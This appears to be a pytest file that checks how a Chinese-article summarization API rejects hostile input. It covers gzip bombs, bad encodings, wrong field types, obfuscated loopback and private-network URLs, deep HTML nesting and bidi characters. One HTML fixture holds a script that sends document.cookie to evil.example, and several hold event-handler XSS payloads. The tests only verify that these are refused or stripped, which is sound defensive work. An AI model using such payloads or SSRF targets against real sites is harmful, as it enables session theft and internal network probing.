"""Bad and hostile input, each with its exact status and message.

Request-level refusals go through the API (TestClient on the private Redis, the
real Celery app, no worker); what only a worker sees (bytes, HTML, text) goes
through ``prepare_article`` and ``summarize_article``, the code a worker runs.
Cases already covered elsewhere (empty and whitespace text, over the character
and byte limits, malformed JSON, unknown fields: tests/test_api_unit.py and
tests/integration) are not repeated.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import time
from typing import Any

import pytest

from tests.reliability.conftest import RedisProcess
from tests.reliability.test_access import Api
from workers.article.segment import article_sentences
from workers.contract import ArticleInput, SummaryOptions
from workers.errors import InputError, NotChinese, UndecodableInput
from workers.pipeline import prepare_article
from workers.settings import load_settings

pytestmark = pytest.mark.reliability

BODY = (
    "新华社北京1月9日电 国务院常务会议今天在北京召开。会议决定加快发展新能源汽车产业，"
    "全年投资120亿元。会议指出，要加强充电基础设施建设。有关部门负责人出席会议。"
)


@pytest.fixture(scope="module")
def api(private_redis: RedisProcess) -> Api:
    return Api(private_redis, anonymous="all")


def _error(response: Any) -> dict[str, Any]:
    error: dict[str, Any] = response.json()["error"]
    return error


# ------------------------------------------------------------------ over the wire


def test_a_gzip_bomb_is_refused_unread_with_415(api: Api) -> None:
    bomb = gzip.compress(b"\0" * 50_000_000, compresslevel=9)  # 50 MB inflated, ~50 KB sent
    started = time.monotonic()
    r = api.http.post(
        "/v1/summaries",
        content=bomb,
        headers={"Content-Type": "application/json", "Content-Encoding": "gzip"},
    )
    assert time.monotonic() - started < 2
    assert r.status_code == 415
    assert _error(r) == {
        "code": "unsupported_encoding",
        "message": "compressed request bodies are not accepted (Content-Encoding: gzip); "
        "send the body uncompressed",
        "limit": None,
    }
    batch = api.http.post(
        "/v1/batches",
        content=bomb,
        headers={"Content-Type": "application/x-ndjson", "Content-Encoding": "deflate, gzip"},
    )
    assert batch.status_code == 415


def test_binary_bytes_as_the_body_are_422(api: Api) -> None:
    r = api.http.post(
        "/v1/summaries", content=os.urandom(4096), headers={"Content-Type": "application/json"}
    )
    assert r.status_code == 422
    assert _error(r) == {
        "code": "invalid_request",
        "message": "the body could not be read as JSON (it must be UTF-8 JSON)",
        "limit": None,
    }


def test_a_jsonl_batch_that_is_not_utf8_is_422_naming_the_byte(api: Api) -> None:
    r = api.http.post(
        "/v1/batches",
        content="中文".encode("gbk") + b"\n",
        headers={"Content-Type": "application/x-ndjson"},
    )
    assert r.status_code == 422
    assert _error(r)["code"] == "undecodable"
    assert (
        _error(r)["message"] == "the JSONL body is not UTF-8: invalid continuation byte at byte 0"
    )


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ({"text": 123}, "text: Input should be a valid string"),
        ({"text": ["甲"]}, "text: Input should be a valid string"),
        ({"text": BODY, "wait": "soon"}, "wait: Input should be a valid number"),
        ({"text": BODY, "options": []}, "options: Input should be a valid dictionary"),
        (
            {"text": BODY, "options": {"sentences": "many"}},
            "options.sentences: Input should be a valid integer",
        ),
        (
            {"text": BODY, "options": {"translate": "perhaps"}},
            "options.translate: Input should be a valid boolean",
        ),
        ([BODY], "Input should be a valid dictionary"),
        ("甲", "Input should be a valid dictionary"),
        (None, "Input should be a valid dictionary or object to extract fields from"),
    ],
)
def test_wrong_field_types_are_422_in_our_error_shape(api: Api, body: Any, message: str) -> None:
    r = api.http.post(
        "/v1/summaries", content=json.dumps(body), headers={"Content-Type": "application/json"}
    )
    assert r.status_code == 422, r.text
    assert set(r.json()) == {"error"} and set(_error(r)) == {"code", "message", "limit"}
    assert _error(r)["code"] == "invalid_request"
    assert message in _error(r)["message"], _error(r)["message"]


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("http://2130706433/", "127.0.0.1"),  # decimal spelling of 127.0.0.1
        ("http://0x7f000001/", "127.0.0.1"),  # hexadecimal
        ("http://127.1/", "127.0.0.1"),  # short form
        ("http://[::1]/", "::1"),
        ("http://[::ffff:127.0.0.1]/", "127.0.0.1"),  # IPv4-mapped IPv6
        ("http://[fe80::1]/", "fe80::1"),  # link-local
        ("http://192.168.1.10/", "192.168.1.10"),
        ("http://100.64.0.1/", "100.64.0.1"),  # carrier-grade NAT
        ("http://[fd00:ec2::254]/", "fd00:ec2::254"),  # AWS metadata over IPv6
        ("http://user:pw@10.0.0.1/", "a user name or password in the URL is not allowed"),
    ],
)
def test_unsafe_urls_are_refused_through_the_api(api: Api, url: str, says: str) -> None:
    r = api.http.post("/v1/summaries", json={"url": url, "wait": 0})
    assert r.status_code == 422, r.text
    assert _error(r)["code"] == "unsafe_url" and says in _error(r)["message"], _error(r)
    assert api.redis.llen(f"{api.layout.queue_prefix}interactive") == 0  # nothing was queued


def test_an_octal_ip_spelling_is_refused_as_an_invalid_url(api: Api) -> None:
    r = api.http.post("/v1/summaries", json={"url": "http://0177.0.0.1/", "wait": 0})
    assert r.status_code == 422
    assert _error(r) == {
        "code": "invalid_request",
        "message": "not a valid URL: Invalid IPv4 address: '0177.0.0.1'",
        "limit": None,
    }


# ------------------------------------------------------------------ what a worker reads

SETTINGS = load_settings()


def _prepare(**given: Any) -> Any:
    return prepare_article(ArticleInput(**given), SETTINGS)


def test_undecodable_and_mixed_encoding_bytes_are_422_undecodable() -> None:
    mixed = "中文新闻报道".encode() * 40 + "中文新闻报道".encode("gbk") * 40
    for raw in (os.urandom(3000), mixed):
        with pytest.raises(UndecodableInput) as caught:
            _prepare(html_b64=base64.b64encode(raw).decode())
        assert caught.value.message.startswith(
            "could not decode the input as UTF-8, GB18030, Big5 or any detected charset ("
        )
        assert caught.value.code == "undecodable"


def test_non_chinese_text_is_refused_with_the_ratio() -> None:
    with pytest.raises(NotChinese) as caught:
        _prepare(text="Это статья на русском языке о новостях. " * 10)
    assert caught.value.message.startswith("the article is not Chinese (fewer than")


def test_deeply_nested_html_is_refused_quickly_not_crashed() -> None:
    for depth in (5_000, 50_000):
        html = "<div>" * depth + f"<p>{BODY}</p>" + "</div>" * depth
        started = time.monotonic()
        with pytest.raises(InputError) as caught:
            _prepare(html=html)
        assert time.monotonic() - started < 10
        assert (caught.value.code, caught.value.message) == (
            "empty_input",
            "the page has no visible text",
        )
    shallow = "<div>" * 200 + f"<p>{BODY}</p>" + "</div>" * 200
    assert _prepare(html=shallow).text == BODY


def test_scripts_and_event_handlers_never_reach_the_result() -> None:
    from workers.english.engines import load_engines
    from workers.pipeline import summarize_article

    html = (
        f'<html><body><p onclick="alert(1)">{BODY}</p>'
        "<script>document.location='http://evil.example/'+document.cookie</script>"
        '<img src=x onerror="alert(2)"><a href="javascript:alert(3)">链接</a>'
        "<style>body{background:url(http://evil.example)}</style>"
        f"<p>{BODY[::-1]}</p></body></html>"
    )
    engines = load_engines(SETTINGS, "offline")
    result = summarize_article(
        ArticleInput(html=html), SummaryOptions(translate=False), engines, SETTINGS, key="k"
    )
    blob = result.model_dump_json()
    for needle in ("<script", "alert(", "onerror", "onclick", "javascript:", "evil.example", "<"):
        assert needle not in blob, needle
    assert BODY[:20] in result.article.text


def test_control_and_bidi_characters_are_removed_from_the_cleaned_text() -> None:
    hostile = f"\u202e{BODY[:30]}\x00\x1b[31m\u2066{BODY[30:]}\u2069\u200f\ufeff\x85"
    prepared = _prepare(text=hostile)
    assert prepared.text == BODY[:30] + "[31m" + BODY[30:]
    for sentence in prepared.sentences:
        assert not any(ch in sentence for ch in "\u202e\x00\x1b\u2066\u2069\u200f\ufeff\x85")


def test_an_extremely_long_single_sentence_is_cut_within_the_window() -> None:
    sentence = "会议" + "，".join(f"第{i}项工作取得新进展" for i in range(3000)) + "。"
    assert len(sentence) > 30_000
    prepared = _prepare(text=sentence)
    assert max(len(s) for s in prepared.sentences) <= 300
    assert "".join(prepared.sentences) == sentence  # nothing lost at the cuts
    no_commas = "中" * 5_000
    pieces = article_sentences(no_commas)
    assert max(map(len, pieces)) <= 300 and "".join(pieces) == no_commas


def test_angle_brackets_in_plain_text_stay_characters() -> None:
    """Text that merely contains markup-like bits keeps them as characters: the JSON
    carries them as strings and the page shows them with textContent (tests/browser)."""
    quote = "他在会上说：“公式a<b 且 c>d 在这里只是文字，<i>不是标签</i>，请照原样保留。”"
    text = f"{BODY}\n{quote}\n{BODY}"
    prepared = _prepare(text=text)
    assert quote in prepared.text
    assert any("<i>不是标签</i>" in s for s in prepared.sentences)
